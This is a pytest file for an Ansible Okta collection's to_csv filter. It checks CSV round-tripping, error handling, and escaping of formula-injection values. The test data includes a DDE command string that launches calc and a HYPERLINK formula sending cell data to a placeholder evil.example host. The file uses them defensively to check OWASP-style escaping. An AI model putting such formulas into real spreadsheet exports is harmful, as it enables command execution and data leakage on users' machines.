# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import io

import pytest

from ansible.errors import AnsibleFilterError
from ansible_collections.identity.okta.plugins.filter.to_csv import to_csv


def test_rows_round_trip_through_a_csv_reader():
    rows = [
        {'user': 'a@example.com', 'result': 'cleared', 'status': None},
        {'user': 'b,"quoted"@example.com', 'result': 'failed', 'status': 503, 'msg': 'line one\nline two'},
        {'user': 'c@example.com', 'mfa_active': False},
    ]
    text = to_csv(rows, ['user', 'result', 'status', 'msg', 'mfa_active'])
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed == [
        ['user', 'result', 'status', 'msg', 'mfa_active'],
        ['a@example.com', 'cleared', '', '', ''],
        ['b,"quoted"@example.com', 'failed', '503', 'line one\nline two', ''],
        ['c@example.com', '', '', '', 'False'],
    ]


@pytest.mark.parametrize('rows, columns', [([{}], []), (['not a dict'], ['a'])])
def test_bad_input_is_a_clear_filter_error(rows, columns):
    with pytest.raises(AnsibleFilterError):
        to_csv(rows, columns)


@pytest.mark.parametrize('hostile', ["=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3', '@SUM(A1)', '\tTAB', '\rCR',
                                     '=HYPERLINK("http://evil.example/?"&A1)'])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(hostile):
    text = to_csv([{'user': hostile, hostile: hostile, 'status': -1}], ['user', hostile, 'status'])
    header, row = list(csv.reader(io.StringIO(text)))
    # OWASP: a leading single quote; the value itself is kept whole after it. Numbers stay numbers.
    assert header == ['user', "'" + hostile, 'status'] and row == ["'" + hostile, "'" + hostile, '-1']


@pytest.mark.parametrize('harmless', ['jane=doe@example.com', 'a+b@example.com', "o'brien@example.com", '', '00u1'])
def test_other_cells_are_written_as_they_are(harmless):
    text = to_csv([{'user': harmless}], ['user'])
    assert list(csv.reader(io.StringIO(text)))[1] == [harmless]
